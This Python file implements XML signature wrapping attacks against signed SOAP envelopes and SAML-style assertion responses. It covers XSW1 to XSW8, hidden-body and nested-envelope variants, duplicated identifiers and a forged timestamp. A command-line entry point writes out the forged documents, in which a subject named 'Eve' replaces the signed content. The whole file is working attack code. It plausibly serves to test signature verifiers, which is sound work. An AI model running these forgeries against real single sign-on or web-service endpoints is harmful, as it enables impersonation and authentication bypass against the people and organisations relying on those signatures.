# SPDX-License-Identifier: Apache-2.0
"""wrapping.py ATTACK SIGNED RESULT ...: moves what a signature covers to where no reader looks, and puts something else there.

The attacks are those of McIntosh and Austel (2005) on SOAP envelopes, XSW1 to XSW8 of Somorovsky and others (2012) on an
assertion in a response, and doubles of identifiers.
"""
import copy
import sys

from lxml import etree

DS = "{http://www.w3.org/2000/09/xmldsig#}"
SOAP = "{http://schemas.xmlsoap.org/soap/envelope/}"
WSS = "http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-"
SECURITY, UTILITY = "{%ssecext-1.0.xsd}" % WSS, "{%sutility-1.0.xsd}" % WSS
EVIL = "{urn:evil}"
ASSERTED, PROTOCOL = "{urn:assertion}", "{urn:protocol}"


class Envelope:
    def __init__(self, root):
        self.root, self.header, self.body = root, root.find(SOAP + "Header"), root.find(SOAP + "Body")
        self.security = self.header.find(SECURITY + "Security")
        self.time = self.security.find(UTILITY + "Timestamp")
        self.signature = self.security.find(DS + "Signature")

    def other_body(self, **attributes):
        body = copy.deepcopy(self.body)
        body.attrib.clear()
        body.attrib.update(attributes)
        body[0][0].text = "Eve"
        return body

    def hide(self, element):
        etree.SubElement(self.header, EVIL + "Wrapper").append(element)


def double(name):
    """The signed body goes to a wrapper, and another one has an identifier of this name."""
    def attack(root):
        envelope = Envelope(root)
        root.append(envelope.other_body(**{name: "body"}))
        envelope.hide(envelope.body)
    return attack


def body_without_identifier(root):
    envelope = Envelope(root)
    root.append(envelope.other_body())
    envelope.hide(envelope.body)


def body_with_another_identifier(root):
    envelope = Envelope(root)
    root.append(envelope.other_body(**{UTILITY + "Id": "evil"}))
    envelope.hide(envelope.body)


def body_behind(root):
    root.append(Envelope(root).other_body())


def body_before(root):
    envelope = Envelope(root)
    envelope.body.addprevious(envelope.other_body())


def body_in_object(root):
    envelope = Envelope(root)
    root.append(envelope.other_body())
    etree.SubElement(envelope.signature, DS + "Object").append(envelope.body)


def body_in_security(root):
    envelope = Envelope(root)
    root.append(envelope.other_body())
    envelope.security.append(envelope.body)


def body_of_another_namespace(root):
    envelope = Envelope(root)
    body = etree.Element(EVIL + "Body", nsmap={None: EVIL[1:-1]})
    body.extend(envelope.other_body())
    envelope.body.addprevious(body)


def time_in_wrapper(root):
    envelope = Envelope(root)
    other = copy.deepcopy(envelope.time)
    other.attrib.clear()
    other[0].text = "2036-01-01T00:00:00Z"
    envelope.time.addprevious(other)
    envelope.hide(envelope.time)


def envelope_in_envelope(root):
    """The whole signed envelope is within the header of another one."""
    outer = etree.Element(root.tag, nsmap=root.nsmap)
    envelope = Envelope(root)
    etree.SubElement(etree.SubElement(outer, SOAP + "Header"), EVIL + "Wrapper").append(root)
    outer.append(envelope.other_body())
    return outer


# ---- An assertion in a response: the signature is in what it covers ----

def parts(root):
    """The response, its assertion, the signature, and a false copy of what is signed, without the signature."""
    assertion = root.find(ASSERTED + "Assertion")
    signature = next(root.iter(DS + "Signature"))
    signed = signature.getparent()
    false = copy.deepcopy(signed)
    false.remove(false.find(DS + "Signature"))
    for number, element in enumerate(false.xpath("descendant-or-self::*[@Id]")):
        element.set("Id", "evil-%d" % number)
    next(false.iter(ASSERTED + "Subject")).text = "Eve"
    return assertion, signature, signed, false


def xsw1(root):
    _, signature, signed, false = parts(root)
    signed.remove(signature)
    false.append(signature)
    etree.SubElement(signature, DS + "Object").append(signed)
    return false


def xsw2(root):
    _, signature, signed, false = parts(root)
    signed.remove(signature)
    false.append(signed)
    false.append(signature)
    return false


def xsw3(root):
    assertion, _, _, false = parts(root)
    assertion.addprevious(false)


def xsw4(root):
    assertion, _, _, false = parts(root)
    assertion.addprevious(false)
    false.append(assertion)


def xsw5(root):
    assertion, signature, _, false = parts(root)
    assertion.remove(signature)
    assertion.addprevious(false)
    false.append(signature)


def xsw6(root):
    assertion, signature, _, false = parts(root)
    assertion.addprevious(false)
    assertion.remove(signature)
    false.append(signature)
    etree.SubElement(signature, DS + "Object").append(assertion)


def xsw7(root):
    assertion, _, _, false = parts(root)
    false.set("Id", assertion.get("Id"))
    extensions = etree.Element(PROTOCOL + "Extensions")
    extensions.append(false)
    assertion.addprevious(extensions)


def xsw8(root):
    assertion, signature, _, false = parts(root)
    assertion.addprevious(false)
    assertion.remove(signature)
    etree.SubElement(signature, DS + "Object").append(assertion)
    false.append(signature)


def root_in_root(root):
    outer = etree.Element(root.tag, nsmap=root.nsmap)
    outer.append(root)
    return outer


ATTACKS = {
    "body-without-identifier": body_without_identifier, "body-with-another-identifier": body_with_another_identifier,
    "body-behind": body_behind, "body-before": body_before, "body-in-object": body_in_object,
    "body-in-security": body_in_security, "body-of-another-namespace": body_of_another_namespace,
    "time-in-wrapper": time_in_wrapper, "envelope-in-envelope": envelope_in_envelope, "double-wsu:Id": double(UTILITY + "Id"),
    "double-Id": double("Id"), "double-ID": double("ID"), "double-id": double("id"),
    "double-xml:id": double("{http://www.w3.org/XML/1998/namespace}id"), "root-in-root": root_in_root,
    "xsw1": xsw1, "xsw2": xsw2, "xsw3": xsw3, "xsw4": xsw4, "xsw5": xsw5, "xsw6": xsw6, "xsw7": xsw7, "xsw8": xsw8,
}

if __name__ == "__main__":
    for name, place, result in zip(*[iter(sys.argv[1:])] * 3):
        top = etree.parse(place).getroot()
        other = ATTACKS[name](top)
        with open(result, "wb") as file:
            file.write(etree.tostring(top if other is None else other))
